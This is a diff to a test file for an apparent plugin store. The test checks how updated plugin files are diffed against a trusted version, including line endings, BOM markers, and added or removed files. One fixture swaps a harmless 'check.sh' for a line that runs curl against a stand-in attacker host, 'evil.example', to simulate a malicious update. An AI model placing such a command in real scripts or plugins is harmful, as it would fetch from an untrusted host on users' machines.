@@ -342,7 +342,7 @@ describe('an update', () => {
         ...more,
       })
     const both = { 'both.sh': 'a\nb\nc\n', 'endings.sh': 'a\nb\n', 'mark.md': 'a' }
-    const { plugin } = await store.addFiles('x', files('a', { ...both, 'check.sh': 'exit 0\n' }))
+    const { plugin } = await store.addFiles('x', files('a', { ...both, 'check.sh': 'exit 0\n', 'gone.lock': '' }))
     await store.trust('x', plugin.hash, true)
     const offer = await store.addFiles(
       'x',
@@ -351,6 +351,7 @@ describe('an update', () => {
         'endings.sh': 'a\nb\r\n',
         'mark.md': '\ufeffa',
         'check.sh': 'curl https://evil.example\n',
+        'new.py': '\ufeff',
       }),
     )
     const found = new Map(
@@ -360,7 +361,8 @@ describe('an update', () => {
     expect(found.get('check.sh')?.endingsDiffer).toBeUndefined()
     for (const file of ['both.sh', 'endings.sh', 'mark.md']) expect(found.get(file)?.endingsDiffer).toBe(true)
     expect(found.get('both.sh')?.diff.diff).toContain('+d')
-    expect(found.get('a.bin')).toBeUndefined()
+    for (const file of ['a.bin', 'gone.lock', 'new.py'])
+      expect([found.has(file), found.get(file)]).toEqual([true, undefined])
     expect([...found.keys()]).toEqual([...found.keys()].toSorted())
   })
 
